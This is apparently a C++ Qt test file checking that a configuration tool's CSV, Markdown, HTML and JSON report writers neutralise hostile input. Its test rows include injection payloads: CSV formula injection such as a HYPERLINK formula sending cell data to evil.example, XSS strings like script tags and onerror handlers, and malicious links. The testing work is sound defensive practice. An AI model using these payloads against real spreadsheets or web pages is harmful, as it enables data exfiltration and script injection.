// The writers every export shares (hiera/report/*.h): CSV fields safe in a spreadsheet, Markdown and
// HTML text that stays text, JSON valid for any value — each written, then read back by a strict
// reader of the format (tests/support/*reader.h) to the same text (docs/bad-input.md, "What goes out").

#include "testutils.h"

#include "support/csvreader.h"
#include "support/htmlreader.h"
#include "support/jsonreader.h"
#include "support/markdownreader.h"

#include <hiera/error.h>
#include <hiera/report/csv.h>
#include <hiera/report/html.h>
#include <hiera/report/json.h>
#include <hiera/report/markdown.h>
#include <hiera/valueformat.h>

#include <QTest>

#include <cmath>
#include <utility>
#include <vector>

using namespace hiera;
using namespace testutils;

namespace {

std::string bytes(const QByteArray& b)
{
    return std::string(b.constData(), static_cast<std::size_t>(b.size()));
}

// Hostile text every writer is given: formulas, markup, links, HTML, line breaks, bytes that are not
// UTF-8, NUL, edges of spaces.
void hostileRows()
{
    QTest::addColumn<QByteArray>("text");
    const QList<QPair<const char*, QByteArray>> rows = {
        {"plain", "profile::ntp::servers"},
        {"fuzz: vertical tab and form feed at the ends", "\vcell\f"},
        {"formula", "=1+2"},
        {"hyperlink formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
        {"plus", "+1"},
        {"minus formula", "-1+2"},
        {"at", "@SUM(A1:A2)"},
        {"tab first", "\tx"},
        {"CR first", "\rx"},
        {"NUL first", QByteArray("\0x", 2)},
        {"negative number", "-5"},
        {"negative float", "-1.5e+20"},
        {"quote then formula", "'=1"},
        {"quotes then formula", "''@x"},
        {"quote alone", "'"},
        {"pipe", "a|b"},
        {"backslash pipe", "a\\|b"},
        {"backticks", "`a``b`"},
        {"backtick edges", "`x`"},
        {"space edges", " x "},
        {"only spaces", "   "},
        {"tab edges", "\tx\t"},
        {"newlines", "one\ntwo\r\nthree\rfour"},
        {"trailing newline", "x\n"},
        {"script", "<script>alert(1)</script>"},
        {"img", "<img src=x onerror=alert(1)>"},
        {"attribute breakout", "\" onmouseover=\"alert(1)\" x='"},
        {"markdown link", "[click](http://evil.example)"},
        {"markdown image", "![x](http://evil.example/x.png)"},
        {"bare url", "see http://evil.example/x"},
        {"www", "www.evil.example"},
        {"email", "a@evil.example"},
        {"emphasis", "*em* _em_ ~~s~~ $x$"},
        {"entity", "&amp; &lt; &#32;"},
        {"backslashes", "\\ \\\\ \\n"},
        {"heading", "# h"},
        {"html comment", "<!-- x -->"},
        {"not UTF-8", "caf\xe9 \xff\xfe"},
        {"NUL inside", QByteArray("a\0b", 3)},
        {"control characters", "\x01\x1b[31m\x7f"},
        {"unicode", "Gr\xc3\xbc\xc3\x9f \xe2\x80\xae"},
        {"empty", ""},
    };
    for (const auto& [name, text] : rows)
        QTest::newRow(name) << text;
}

// Documents whose JSON both writers must keep byte for byte: every value kind, nested empty
// collections, keys that are not strings, bytes that are not UTF-8 in keys and values, floats in
// Ruby's form and the non-finite ones, at the top and deep down.
std::vector<std::pair<const char*, Value>> jsonDocuments()
{
    std::vector<std::pair<const char*, Value>> docs;
    Hash scalars;
    scalars.set("s", Value(std::string("q\"b\\n\nt\tc\x01\x1f/\xc3\xa9\x7f")));
    scalars.set("i", Value(std::int64_t(-5)));
    scalars.set("big", Value(std::int64_t(9223372036854775807LL)));
    scalars.set("t", Value(true));
    scalars.set("f", Value(false));
    scalars.set("n", Value(nullptr));
    docs.emplace_back("scalars", Value(scalars));
    docs.emplace_back("floats",
                      Value(Array{Value(1e20), Value(0.1), Value(-0.0), Value(1000.0), Value(1e-5), Value(1.5e300),
                                  Value(1e15), Value(100000000000000.0), Value(-2.5)}));
    Hash withEmpty;
    withEmpty.set("e", Value(Array{}));
    Hash empties;
    empties.set("a", Value(Array{}));
    empties.set("b", Value(Hash{}));
    empties.set("c", Value(Array{Value(Array{}), Value(Hash{})}));
    empties.set("d", Value(Array{Value(withEmpty)}));
    empties.set("", Value(Hash{}));
    docs.emplace_back("nested empty", Value(empties));
    docs.emplace_back("empty hash", Value(Hash{}));
    docs.emplace_back("empty array", Value(Array{}));
    docs.emplace_back("string", Value("top"));
    docs.emplace_back("float", Value(0.1));
    Hash inner;
    inner.set("k", Value("v"));
    Hash keys;
    keys.set(Value(std::int64_t(1)), Value("int"));
    keys.set(Value(1.5), Value("float"));
    keys.set(Value(1e20), Value("big float"));
    keys.set(Value(true), Value("bool"));
    keys.set(Value(nullptr), Value("null"));
    keys.set(Value(Array{Value(1), Value("x")}), Value("array"));
    keys.set(Value(inner), Value("hash"));
    keys.set(Value("a\nb\"c"), Value("escaped"));
    docs.emplace_back("keys that are not strings", Value(keys));
    Hash badValue;
    badValue.set("v",
                 Value(std::string("a\xff"
                                   "b")));
    docs.emplace_back("value not UTF-8", Value(badValue));
    Hash badKey;
    badKey.set(Value(std::string("k\xfe")), Value(1));
    docs.emplace_back("key not UTF-8", Value(badKey));
    Hash nan;
    nan.set("n", Value(std::nan("")));
    docs.emplace_back("NaN", Value(nan));
    Hash ninf;
    ninf.set("i", Value(-HUGE_VAL));
    docs.emplace_back("-Infinity", Value(ninf));
    docs.emplace_back("array of the unwritable", Value(Array{Value(HUGE_VAL), Value(std::string("\x80"))}));
    Hash deepKey;
    deepKey.set(Value(std::string("z\xc3")), Value(std::string("\xc3")));
    Hash deep;
    deep.set("y", Value(Array{Value(deepKey), Value(-HUGE_VAL)}));
    Hash badInner;
    badInner.set(Value(std::string("k\xff")), Value(std::nan("")));
    Hash mixed;
    mixed.set("a/b~c", Value(Array{Value(1), Value(std::string("\x80"))}));
    mixed.set("inf", Value(HUGE_VAL));
    mixed.set("h", Value(badInner));
    mixed.set("x", Value(deep));
    mixed.set("ok", Value(0.1));
    docs.emplace_back("mixed", Value(mixed));
    return docs;
}

} // namespace

class TestReportFormats : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void csvFieldsAreNeutralised_data();
    void csvFieldsAreNeutralised();
    // clang-format off
    void csvReadsBack_data() { hostileRows(); }
    // clang-format on
    void csvReadsBack();
    // clang-format off
    void markdownReadsBack_data() { hostileRows(); }
    // clang-format on
    void markdownReadsBack();
    void markdownCodeBlock();
    // clang-format off
    void htmlReadsBack_data() { hostileRows(); }
    // clang-format on
    void htmlReadsBack();
    // clang-format off
    void jsonReadsBack_data() { hostileRows(); }
    // clang-format on
    void jsonReadsBack();
    void jsonReplacementsArePointed();
    void jsonWritersKeepTheirBytes();
    void strictReadersRefuse_data();
    void strictReadersRefuse();
};

// clang-format off
void TestReportFormats::csvFieldsAreNeutralised_data()
{
    QTest::addColumn<QByteArray>("field");
    QTest::addColumn<QByteArray>("written");
    QTest::newRow("plain") << QByteArray("web01") << QByteArray("web01");
    QTest::newRow("comma") << QByteArray("a,b") << QByteArray("\"a,b\"");
    QTest::newRow("quote") << QByteArray("a\"b") << QByteArray("\"a\"\"b\"");
    QTest::newRow("=") << QByteArray("=1+2") << QByteArray("\"'=1+2\"");
    QTest::newRow("+") << QByteArray("+1") << QByteArray("\"'+1\"");
    QTest::newRow("- formula") << QByteArray("-1+2") << QByteArray("\"'-1+2\"");
    QTest::newRow("@") << QByteArray("@SUM(1)") << QByteArray("\"'@SUM(1)\"");
    QTest::newRow("tab") << QByteArray("\tx") << QByteArray("\"'\tx\"");
    QTest::newRow("CR") << QByteArray("\rx") << QByteArray("\"'\rx\"");
    QTest::newRow("NUL") << QByteArray("\0x", 2) << QByteArray("\"'\0x\"", 5);
    QTest::newRow("formula with quotes") << QByteArray("=\"a\"") << QByteArray("\"'=\"\"a\"\"\"");
    // A number is no formula: negative values stay numbers.
    QTest::newRow("-5") << QByteArray("-5") << QByteArray("-5");
    QTest::newRow("-0.25") << QByteArray("-0.25") << QByteArray("-0.25");
    QTest::newRow("-1.5e+20") << QByteArray("-1.5e+20") << QByteArray("-1.5e+20");
    QTest::newRow("- alone") << QByteArray("-") << QByteArray("\"'-\"");
    QTest::newRow("-5x") << QByteArray("-5x") << QByteArray("\"'-5x\"");
    QTest::newRow("-.5") << QByteArray("-.5") << QByteArray("\"'-.5\"");
    QTest::newRow("-Infinity") << QByteArray("-Infinity") << QByteArray("\"'-Infinity\"");
    // One quote more where a quote already stands before a formula character, so the rule reverses.
    QTest::newRow("'=") << QByteArray("'=1") << QByteArray("\"''=1\"");
    QTest::newRow("'-5") << QByteArray("'-5") << QByteArray("\"''-5\"");
    QTest::newRow("'abc") << QByteArray("'abc") << QByteArray("'abc");
    QTest::newRow("space then =") << QByteArray(" =1") << QByteArray(" =1");
}
// clang-format on

void TestReportFormats::csvFieldsAreNeutralised()
{
    QFETCH(QByteArray, field);
    QFETCH(QByteArray, written);
    QCOMPARE(QByteArray::fromStdString(csvField(bytes(field))), written);
}

void TestReportFormats::csvReadsBack()
{
    QFETCH(QByteArray, text);
    const std::string field = bytes(text);
    std::string csv;
    appendCsvRow(csv, {"before", field, "after"});
    appendCsvRow(csv, {field});
    std::string error;
    const auto rows = testsupport::readCsv(csv, &error);
    QVERIFY2(rows, error.c_str());
    QCOMPARE(rows->size(), std::size_t(2));
    QCOMPARE((*rows)[0].size(), std::size_t(3));
    QCOMPARE((*rows)[1].size(), std::size_t(1));
    QCOMPARE(QByteArray::fromStdString(csvFieldText((*rows)[0][1])), text);
    QCOMPARE(QByteArray::fromStdString(csvFieldText((*rows)[1][0])), text);
    const auto formula = testsupport::csvFormulaField(*rows);
    QVERIFY2(!formula, formula ? formula->c_str() : "");
}

namespace {
// No byte of ESC, another C0 control but the line breaks and tab, DEL, a C1 control, or a
// bidirectional override or isolate in what a writer wrote (they reached the reports raw: docs/bad-input.md, "Exports
// and reports").
bool holdsRawControls(std::string_view written)
{
    for (std::size_t i = 0; i < written.size(); ++i) {
        const auto c = static_cast<unsigned char>(written[i]);
        if ((c < 0x20 && c != '\n' && c != '\r' && c != '\t') || c == 0x7F)
            return true;
        if (c == 0xC2 && i + 1 < written.size() && static_cast<unsigned char>(written[i + 1]) >= 0x80
            && static_cast<unsigned char>(written[i + 1]) <= 0x9F)
            return true;
        if (c == 0xE2 && i + 2 < written.size() && static_cast<unsigned char>(written[i + 1]) == 0x80
            && static_cast<unsigned char>(written[i + 2]) >= 0xAA && static_cast<unsigned char>(written[i + 2]) <= 0xAE)
            return true;
        if (c == 0xE2 && i + 2 < written.size() && static_cast<unsigned char>(written[i + 1]) == 0x81
            && static_cast<unsigned char>(written[i + 2]) >= 0xA6 && static_cast<unsigned char>(written[i + 2]) <= 0xA9)
            return true;
    }
    return false;
}
} // namespace

void TestReportFormats::markdownReadsBack()
{
    QFETCH(QByteArray, text);
    const std::string s = bytes(text);
    const std::string expected = testsupport::markdownNormalised(s);
    for (const bool code : {false, true}) {
        // In a table cell, between two others.
        const std::string cell = code ? markdownCode(s) : markdownText(s);
        QVERIFY2(cell.find('\n') == std::string::npos && cell.find('\r') == std::string::npos, cell.c_str());
        QVERIFY2(!holdsRawControls(cell), cell.c_str());
        std::string error;
        const auto cells = testsupport::markdownRowCells("| a | " + cell + " | b |", &error);
        QVERIFY2(cells, error.c_str());
        QCOMPARE(cells->size(), std::size_t(3));
        const auto read = testsupport::markdownInline((*cells)[1], false, &error);
        QVERIFY2(read, error.c_str());
        QCOMPARE(QByteArray::fromStdString(*read), QByteArray::fromStdString(expected));
        // Inline (a list item): the pipe is no boundary there.
        const std::string inlineText = code ? markdownCode(s, MarkdownContext::Inline) : markdownText(s);
        const auto readInline = testsupport::markdownInline(inlineText, false, &error);
        QVERIFY2(readInline, error.c_str());
        QCOMPARE(QByteArray::fromStdString(*readInline), QByteArray::fromStdString(expected));
    }
}

void TestReportFormats::markdownCodeBlock()
{
    // A value whose YAML holds a fence of its own cannot close the block early.
    const std::string block = hiera::markdownCodeBlock("---\n- |\n  ```\n  ````\n", "yaml");
    QVERIFY2(block.rfind("`````yaml\n", 0) == 0, block.c_str());
    QVERIFY2(block.size() > 6 && block.compare(block.size() - 6, 6, "`````\n") == 0, block.c_str());
    QCOMPARE(hiera::markdownCodeBlock("x", "yaml"), std::string("```yaml\nx\n```\n"));
}

void TestReportFormats::htmlReadsBack()
{
    QFETCH(QByteArray, text);
    const std::string s = bytes(text);
    const std::string page = htmlDocumentStart(s, "p{margin:0}") + "<p>" + htmlText(s) + "</p>\n<table><tr><td><code>"
        + htmlText(s) + "</code></td></tr></table>\n</body></html>\n";
    QVERIFY2(!holdsRawControls(page), page.c_str());
    std::string error;
    const auto doc = testsupport::readHtml(page, &error);
    QVERIFY2(doc, error.c_str());
    const std::string expected = testsupport::htmlNormalised(s);
    QCOMPARE(QByteArray::fromStdString(doc->title), QByteArray::fromStdString(expected));
    QCOMPARE(doc->paragraphs.size(), std::size_t(1));
    QCOMPARE(QByteArray::fromStdString(doc->paragraphs[0]), QByteArray::fromStdString(expected));
    QCOMPARE(QByteArray::fromStdString(doc->tables.at(0).at(0).at(0)), QByteArray::fromStdString(expected));
    QCOMPARE(doc->contentSecurityPolicy, std::string(kHtmlContentSecurityPolicy));
}

void TestReportFormats::jsonReadsBack()
{
    QFETCH(QByteArray, text);
    const std::string s = bytes(text);
    Hash inner;
    inner.set(Value(s), Value(s));
    Hash doc;
    doc.set("value", Value(s));
    doc.set("list", Value(Array{Value(s), Value(1), Value(-2.5)}));
    doc.set("hash", Value(inner));
    for (const bool pretty : {true, false}) {
        std::string error;
        const auto read = testsupport::readJson(reportJson(Value(doc), pretty), &error);
        QVERIFY2(read, error.c_str());
        const Value expected(testsupport::validUtf8Replaced(s));
        QCOMPARE(*read->asHash().find("value"), expected);
        QCOMPARE(read->asHash().find("list")->asArray()[0], expected);
        QCOMPARE(*read->asHash().find("hash")->asHash().find(expected), expected);
        const bool replaced = testsupport::validUtf8Replaced(s) != s;
        QCOMPARE(read->asHash().contains(kJsonReplacementsKey), replaced);
    }
}

void TestReportFormats::jsonReplacementsArePointed()
{
    Hash inner;
    inner.set(Value(std::string("k\xff")), Value(std::nan("")));
    Hash doc;
    doc.set("a/b~c", Value(Array{Value(1), Value(std::string("\x80"))}));
    doc.set("inf", Value(-HUGE_VAL));
    doc.set("h", Value(inner));
    std::string error;
    const auto read = testsupport::readJson(reportJson(Value(doc)), &error);
    QVERIFY2(read, error.c_str());
    QCOMPARE(read->asHash().find("a/b~c")->asArray()[1], Value("\xEF\xBF\xBD"));
    QCOMPARE(*read->asHash().find("inf"), Value("-Infinity"));
    QCOMPARE(*read->asHash().find("h")->asHash().find("k\xEF\xBF\xBD"), Value("NaN"));
    QCOMPARE(*read->asHash().find(kJsonReplacementsKey),
             json(R"([{"pointer": "/a~1b~0c/1", "reason": "not UTF-8"}, {"pointer": "/inf", "reason": "-Infinity"},
                      {"pointer": "/h/k\ufffd", "reason": "key not UTF-8"}, {"pointer": "/h/k\ufffd", "reason": "NaN"}])"));
    // Nothing replaced: no list, and the text is toJson's.
    Hash plain;
    plain.set("k", Value(Array{Value(1.5), Value("x")}));
    QCOMPARE(reportJson(Value(plain)), toJson(Value(plain), true));
    QCOMPARE(reportJson(Value(plain), false), toJson(Value(plain)));
}

// The bytes toJson and reportJson write for jsonDocuments(), compact and pretty, recorded when they were
// two writers: one walk with two policies for what JSON cannot hold must write the same. toJson's
// column holds the error it throws where it refuses.
// clang-format off
void TestReportFormats::jsonWritersKeepTheirBytes()
{
    struct Written
    {
        const char* toJsonCompact;
        const char* toJsonPretty;
        const char* reportPretty;
        const char* reportCompact;
    };
    static const Written written[] = {
        // scalars
        {"{\"s\":\"q\\\"b\\\\n\\nt\\tc\\u0001\\u001f/\303\251\177\",\"i\":-5,\"big\":9223372036854775807,\"t\":true,\"f\":false,\"n\":null}",
         "{\n"
            "  \"s\": \"q\\\"b\\\\n\\nt\\tc\\u0001\\u001f/\303\251\177\",\n"
            "  \"i\": -5,\n"
            "  \"big\": 9223372036854775807,\n"
            "  \"t\": true,\n"
            "  \"f\": false,\n"
            "  \"n\": null\n"
            "}",
         "{\n"
            "  \"s\": \"q\\\"b\\\\n\\nt\\tc\\u0001\\u001f/\303\251\177\",\n"
            "  \"i\": -5,\n"
            "  \"big\": 9223372036854775807,\n"
            "  \"t\": true,\n"
            "  \"f\": false,\n"
            "  \"n\": null\n"
            "}",
         "{\"s\":\"q\\\"b\\\\n\\nt\\tc\\u0001\\u001f/\303\251\177\",\"i\":-5,\"big\":9223372036854775807,\"t\":true,\"f\":false,\"n\":null}"},
        // floats
        {"[1.0e+20,0.1,-0.0,1000.0,1.0e-05,1.5e+300,1.0e+15,100000000000000.0,-2.5]",
         "[\n"
            "  1.0e+20,\n"
            "  0.1,\n"
            "  -0.0,\n"
            "  1000.0,\n"
            "  1.0e-05,\n"
            "  1.5e+300,\n"
            "  1.0e+15,\n"
            "  100000000000000.0,\n"
            "  -2.5\n"
            "]",
         "[\n"
            "  1.0e+20,\n"
            "  0.1,\n"
            "  -0.0,\n"
            "  1000.0,\n"
            "  1.0e-05,\n"
            "  1.5e+300,\n"
            "  1.0e+15,\n"
            "  100000000000000.0,\n"
            "  -2.5\n"
            "]",
         "[1.0e+20,0.1,-0.0,1000.0,1.0e-05,1.5e+300,1.0e+15,100000000000000.0,-2.5]"},
        // nested empty
        {"{\"a\":[],\"b\":{},\"c\":[[],{}],\"d\":[{\"e\":[]}],\"\":{}}",
         "{\n"
            "  \"a\": [],\n"
            "  \"b\": {},\n"
            "  \"c\": [\n"
            "    [],\n"
            "    {}\n"
            "  ],\n"
            "  \"d\": [\n"
            "    {\n"
            "      \"e\": []\n"
            "    }\n"
            "  ],\n"
            "  \"\": {}\n"
            "}",
         "{\n"
            "  \"a\": [],\n"
            "  \"b\": {},\n"
            "  \"c\": [\n"
            "    [],\n"
            "    {}\n"
            "  ],\n"
            "  \"d\": [\n"
            "    {\n"
            "      \"e\": []\n"
            "    }\n"
            "  ],\n"
            "  \"\": {}\n"
            "}",
         "{\"a\":[],\"b\":{},\"c\":[[],{}],\"d\":[{\"e\":[]}],\"\":{}}"},
        // empty hash
        {"{}",
         "{}",
         "{}",
         "{}"},
        // empty array
        {"[]",
         "[]",
         "[]",
         "[]"},
        // string
        {"\"top\"",
         "\"top\"",
         "\"top\"",
         "\"top\""},
        // float
        {"0.1",
         "0.1",
         "0.1",
         "0.1"},
        // keys that are not strings
        {"{\"1\":\"int\",\"1.5\":\"float\",\"1.0e+20\":\"big float\",\"true\":\"bool\",\"\":\"null\",\"[1, \\\"x\\\"]\":\"array\",\"{\\\"k\\\"=>\\\"v\\\"}\":\"hash\",\"a\\nb\\\"c\":\"escaped\"}",
         "{\n"
            "  \"1\": \"int\",\n"
            "  \"1.5\": \"float\",\n"
            "  \"1.0e+20\": \"big float\",\n"
            "  \"true\": \"bool\",\n"
            "  \"\": \"null\",\n"
            "  \"[1, \\\"x\\\"]\": \"array\",\n"
            "  \"{\\\"k\\\"=>\\\"v\\\"}\": \"hash\",\n"
            "  \"a\\nb\\\"c\": \"escaped\"\n"
            "}",
         "{\n"
            "  \"1\": \"int\",\n"
            "  \"1.5\": \"float\",\n"
            "  \"1.0e+20\": \"big float\",\n"
            "  \"true\": \"bool\",\n"
            "  \"\": \"null\",\n"
            "  \"[1, \\\"x\\\"]\": \"array\",\n"
            "  \"{\\\"k\\\"=>\\\"v\\\"}\": \"hash\",\n"
            "  \"a\\nb\\\"c\": \"escaped\"\n"
            "}",
         "{\"1\":\"int\",\"1.5\":\"float\",\"1.0e+20\":\"big float\",\"true\":\"bool\",\"\":\"null\",\"[1, \\\"x\\\"]\":\"array\",\"{\\\"k\\\"=>\\\"v\\\"}\":\"hash\",\"a\\nb\\\"c\":\"escaped\"}"},
        // value not UTF-8
        {"error: a string that is not UTF-8 (a !!binary value) cannot be written as JSON: \"a\\xFFb\"",
         "error: a string that is not UTF-8 (a !!binary value) cannot be written as JSON: \"a\\xFFb\"",
         "{\n"
            "  \"v\": \"a\357\277\275b\",\n"
            "  \"json_replacements\": [\n"
            "    {\"pointer\": \"/v\", \"reason\": \"not UTF-8\"}\n"
            "  ]\n"
            "}",
         "{\"v\":\"a\357\277\275b\",\"json_replacements\":[{\"pointer\":\"/v\",\"reason\":\"not UTF-8\"}]}"},
        // key not UTF-8
        {"error: a string that is not UTF-8 (a !!binary value) cannot be written as JSON: \"k\\xFE\"",
         "error: a string that is not UTF-8 (a !!binary value) cannot be written as JSON: \"k\\xFE\"",
         "{\n"
            "  \"k\357\277\275\": 1,\n"
            "  \"json_replacements\": [\n"
            "    {\"pointer\": \"/k\357\277\275\", \"reason\": \"key not UTF-8\"}\n"
            "  ]\n"
            "}",
         "{\"k\357\277\275\":1,\"json_replacements\":[{\"pointer\":\"/k\357\277\275\",\"reason\":\"key not UTF-8\"}]}"},
        // NaN
        {"error: NaN not allowed in JSON",
         "error: NaN not allowed in JSON",
         "{\n"
            "  \"n\": \"NaN\",\n"
            "  \"json_replacements\": [\n"
            "    {\"pointer\": \"/n\", \"reason\": \"NaN\"}\n"
            "  ]\n"
            "}",
         "{\"n\":\"NaN\",\"json_replacements\":[{\"pointer\":\"/n\",\"reason\":\"NaN\"}]}"},
        // -Infinity
        {"error: Infinity not allowed in JSON",
         "error: Infinity not allowed in JSON",
         "{\n"
            "  \"i\": \"-Infinity\",\n"
            "  \"json_replacements\": [\n"
            "    {\"pointer\": \"/i\", \"reason\": \"-Infinity\"}\n"
            "  ]\n"
            "}",
         "{\"i\":\"-Infinity\",\"json_replacements\":[{\"pointer\":\"/i\",\"reason\":\"-Infinity\"}]}"},
        // array of the unwritable
        {"error: Infinity not allowed in JSON",
         "error: Infinity not allowed in JSON",
         "[\n"
            "  \"Infinity\",\n"
            "  \"\357\277\275\"\n"
            "]",
         "[\"Infinity\",\"\357\277\275\"]"},
        // mixed
        {"error: a string that is not UTF-8 (a !!binary value) cannot be written as JSON: \"\\x80\"",
         "error: a string that is not UTF-8 (a !!binary value) cannot be written as JSON: \"\\x80\"",
         "{\n"
            "  \"a/b~c\": [\n"
            "    1,\n"
            "    \"\357\277\275\"\n"
            "  ],\n"
            "  \"inf\": \"Infinity\",\n"
            "  \"h\": {\n"
            "    \"k\357\277\275\": \"NaN\"\n"
            "  },\n"
            "  \"x\": {\n"
            "    \"y\": [\n"
            "      {\n"
            "        \"z\357\277\275\": \"\357\277\275\"\n"
            "      },\n"
            "      \"-Infinity\"\n"
            "    ]\n"
            "  },\n"
            "  \"ok\": 0.1,\n"
            "  \"json_replacements\": [\n"
            "    {\"pointer\": \"/a~1b~0c/1\", \"reason\": \"not UTF-8\"},\n"
            "    {\"pointer\": \"/inf\", \"reason\": \"Infinity\"},\n"
            "    {\"pointer\": \"/h/k\357\277\275\", \"reason\": \"key not UTF-8\"},\n"
            "    {\"pointer\": \"/h/k\357\277\275\", \"reason\": \"NaN\"},\n"
            "    {\"pointer\": \"/x/y/0/z\357\277\275\", \"reason\": \"key not UTF-8\"},\n"
            "    {\"pointer\": \"/x/y/0/z\357\277\275\", \"reason\": \"not UTF-8\"},\n"
            "    {\"pointer\": \"/x/y/1\", \"reason\": \"-Infinity\"}\n"
            "  ]\n"
            "}",
         "{\"a/b~c\":[1,\"\357\277\275\"],\"inf\":\"Infinity\",\"h\":{\"k\357\277\275\":\"NaN\"},\"x\":{\"y\":[{\"z\357\277\275\":\"\357\277\275\"},\"-Infinity\"]},\"ok\":0.1,\"json_replacements\":[{\"pointer\":\"/a~1b~0c/1\",\"reason\":\"not UTF-8\"},{\"pointer\":\"/inf\",\"reason\":\"Infinity\"},{\"pointer\":\"/h/k\357\277\275\",\"reason\":\"key not UTF-8\"},{\"pointer\":\"/h/k\357\277\275\",\"reason\":\"NaN\"},{\"pointer\":\"/x/y/0/z\357\277\275\",\"reason\":\"key not UTF-8\"},{\"pointer\":\"/x/y/0/z\357\277\275\",\"reason\":\"not UTF-8\"},{\"pointer\":\"/x/y/1\",\"reason\":\"-Infinity\"}]}"},
    };
    const auto toJsonOrError = [](const Value& v, bool pretty) {
        try {
            return toJson(v, pretty);
        } catch (const Error& e) {
            return std::string("error: ") + e.what();
        }
    };
    const auto docs = jsonDocuments();
    QCOMPARE(docs.size(), std::size(written));
    for (std::size_t i = 0; i < docs.size(); ++i) {
        const auto& [name, doc] = docs[i];
        const std::pair<std::string, const char*> pairs[] = {
            {toJsonOrError(doc, false), written[i].toJsonCompact},
            {toJsonOrError(doc, true), written[i].toJsonPretty},
            {reportJson(doc, true), written[i].reportPretty},
            {reportJson(doc, false), written[i].reportCompact},
        };
        const char* which[] = {"toJson", "toJson pretty", "reportJson", "reportJson compact"};
        for (std::size_t k = 0; k < std::size(pairs); ++k)
            QVERIFY2(pairs[k].first == pairs[k].second,
                     qPrintable(QString("%1, %2:\n%3").arg(name, which[k], QString::fromStdString(pairs[k].first))));
    }
}
// clang-format on

// The readers are strict: what a writer must never produce is refused, so the round trips above prove
// something.
// clang-format off
void TestReportFormats::strictReadersRefuse_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("text");
    QTest::newRow("csv: bare quote") << "csv" << QByteArray("a\"b\r\n");
    QTest::newRow("csv: LF ending") << "csv" << QByteArray("a,b\n");
    QTest::newRow("csv: unterminated") << "csv" << QByteArray("\"a\r\n");
    QTest::newRow("json: raw control") << "json" << QByteArray("\"a\x01\"");
    QTest::newRow("json: not UTF-8") << "json" << QByteArray("\"\xff\"");
    QTest::newRow("json: lone surrogate") << "json" << QByteArray("\"\\ud800\"");
    QTest::newRow("json: NaN") << "json" << QByteArray("[NaN]");
    QTest::newRow("json: trailing comma") << "json" << QByteArray("[1,]");
    QTest::newRow("json: leading zero") << "json" << QByteArray("01");
    QTest::newRow("json: garbage after") << "json" << QByteArray("{} x");
    QTest::newRow("md: raw html") << "md" << QByteArray("<img src=x>");
    QTest::newRow("md: link") << "md" << QByteArray("[a](b)");
    QTest::newRow("md: image") << "md" << QByteArray("!x");
    QTest::newRow("md: url") << "md" << QByteArray("http://x");
    QTest::newRow("md: www") << "md" << QByteArray("www.x");
    QTest::newRow("md: unmatched backtick") << "md" << QByteArray("`a");
    QTest::newRow("md: entity") << "md" << QByteArray("&amp;");
    QTest::newRow("html: script") << "html" << QByteArray("<script>x</script>");
    QTest::newRow("html: attribute") << "html" << QByteArray("<span onclick=\"x\">a</span>");
    QTest::newRow("html: raw quote") << "html" << QByteArray("a\"b");
    QTest::newRow("html: unknown entity") << "html" << QByteArray("&nbsp;");
    QTest::newRow("html: unclosed") << "html" << QByteArray("<code>a");
}
// clang-format on

void TestReportFormats::strictReadersRefuse()
{
    QFETCH(QString, format);
    QFETCH(QByteArray, text);
    const std::string s = bytes(text);
    if (format == QLatin1String("csv"))
        QVERIFY(!testsupport::readCsv(s));
    else if (format == QLatin1String("json"))
        QVERIFY(!testsupport::readJson(s));
    else if (format == QLatin1String("md"))
        QVERIFY(!testsupport::markdownInline(s));
    else
        QVERIFY(!testsupport::readHtml(htmlDocumentStart("t", "") + "<p>" + s + "</p></body></html>"));
}

QTEST_APPLESS_MAIN(TestReportFormats)
#include "tst_reportformats.moc"
